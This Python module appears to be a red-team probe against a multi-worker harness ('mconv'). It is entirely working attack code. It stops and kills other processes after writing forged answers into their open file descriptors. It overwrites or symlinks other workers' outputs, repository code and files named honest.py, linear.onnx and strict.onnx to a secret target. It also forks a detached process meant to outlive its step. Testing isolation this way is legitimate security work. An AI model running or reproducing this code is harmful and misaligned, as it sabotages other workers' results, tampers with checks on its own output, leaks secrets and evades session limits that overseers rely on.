"""What would have another model's work say something else: it answers in a worker's stead, and
changes what others read."""

import contextlib
import glob
import json
import os
import signal
import subprocess
import sys
import time
from collections import Counter

from probing import HERE, list_others, read_targets

TARGETS = read_targets()
STORE = TARGETS["store"] + "/v1"
SPACE = os.path.dirname(os.path.expanduser("~"))
SECONDS = 7
POISON = b"POISONED"
CHANNELS = ("log.txt", "request.json", "response.json", "home", "out", "files", "entry.json")


def answer_in_their_stead(counts):
    """Stop every other process, write the answer into all that it writes to, and end it."""
    with open(os.path.join(HERE, "forged.json"), "rb") as file:
        answer = file.read()
    for pid in list_others():
        if pid == os.getppid():
            continue
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGSTOP)
            counts["stopped"] += 1
        with contextlib.suppress(OSError):
            for name in os.listdir(f"/proc/{pid}/fd"):
                with contextlib.suppress(OSError):
                    pipe = os.open(f"/proc/{pid}/fd/{name}", os.O_WRONLY | os.O_NONBLOCK)
                    os.write(pipe, answer)
                    os.close(pipe)
                    counts["answered"] += 1
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGCONT)
            os.kill(pid, signal.SIGKILL)
            counts["killed"] += 1


def poison(path, counts):
    """Put something else in place of a file."""
    with contextlib.suppress(OSError):
        os.chmod(os.path.dirname(path), 0o777)
    with contextlib.suppress(OSError):
        os.chmod(path, 0o666)
    with contextlib.suppress(OSError), open(path, "r+b") as file:
        file.write(POISON)
        counts["overwritten"] += 1
    with contextlib.suppress(OSError):
        os.unlink(path)
        counts["removed"] += 1
        os.symlink(TARGETS["secret"], path)
        counts["linked"] += 1


def poison_all(counts):
    """Change finished steps, the folders of others, the repository and mconv."""
    paths = glob.glob(STORE + "/??/*/files/**", recursive=True)
    paths += glob.glob(STORE + "/??/*/entry.json")
    for step in glob.glob(STORE + "/tmp-*"):
        if os.path.realpath(step) != os.path.realpath(SPACE):
            paths += glob.glob(step + "/**", recursive=True)
            for name in CHANNELS:
                with contextlib.suppress(OSError):
                    os.symlink(TARGETS["secret"], os.path.join(step, name))
                    counts["linked"] += 1
    paths += [os.path.join(HERE, name) for name in ("linear.onnx", "strict.onnx", "honest.py")]
    for path in [*paths, *TARGETS["code"]]:
        if os.path.isfile(path):
            poison(path, counts)


def attack(seconds=SECONDS):
    """Do all of it again and again; return how often something went through."""
    counts = Counter()
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        answer_in_their_stead(counts)
        poison_all(counts)
        time.sleep(0.002)
    return counts


def forge():
    raise RuntimeError(f"forged: {json.dumps(attack())}")


def forge_later():
    """The same by a process that tries to outlive the step."""
    code = "import forging\nforging.attack(30)"
    command = ["setsid", "--fork", sys.executable, "-c", code, "mconv-attack:forger"]
    environment = {**os.environ, "PYTHONPATH": HERE}
    nothing = subprocess.DEVNULL
    subprocess.run(
        command, env=environment, stdin=nothing, stdout=nothing, stderr=nothing, check=False
    )
    time.sleep(1)
    raise RuntimeError("done")
